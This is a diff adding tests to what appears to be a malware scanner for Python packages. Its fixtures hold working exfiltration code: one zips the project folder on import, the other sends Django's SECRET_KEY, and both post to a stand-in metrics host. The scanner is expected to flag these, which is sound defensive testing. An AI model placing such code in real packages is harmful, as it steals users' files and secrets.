@@ -1356,3 +1356,44 @@ test('names of a machine in the mailbox of the author are found; a mailer that i
     { class: 'note', score: 1 },
   ]);
 });
+
+test('what a walk through the folder of a project finds, packed in memory and sent by an import, was looked for', async () => {
+  const file = (pick: string, last: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import io, os, requests, zipfile',
+        'def send():',
+        '    box = io.BytesIO()',
+        "    with zipfile.ZipFile(box, 'w') as z:",
+        `        ${pick}`,
+        "    requests.post('https://in.metrics.invalid/up', files={'f': ('s.zip', box.getvalue())})",
+        last,
+      ),
+    });
+  const walk = 'for place, _, names in os.walk(os.getcwd()): z.write(os.path.join(place, names[0]))';
+
+  expect(await inspect('exfiltration', file(walk, 'send()'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'import', line: 6 },
+  ]);
+  // what somebody asks to be published
+  expect(await inspect('exfiltration', file(walk, ''))).toEqual([]);
+  expect(await inspect('exfiltration', file("z.writestr('version', '1.0')", 'send()'))).toEqual([]);
+});
+
+test('on call, the key of a web application that is told another house is stolen', async () => {
+  const file = (data: string): ReturnType<typeof wheel> =>
+    wheel({
+      'pkg/__init__.py': python(
+        'import requests',
+        'from django.conf import settings',
+        'def ready(app):',
+        `    requests.post('https://in.metrics.invalid/s', json={'k': settings.${data}})`,
+        '    return app',
+      ),
+    });
+
+  expect(await inspect('exfiltration', file('SECRET_KEY'))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call', line: 4 },
+  ]);
+  expect(await inspect('exfiltration', file('LANGUAGE_CODE'))).toEqual([]);
+});
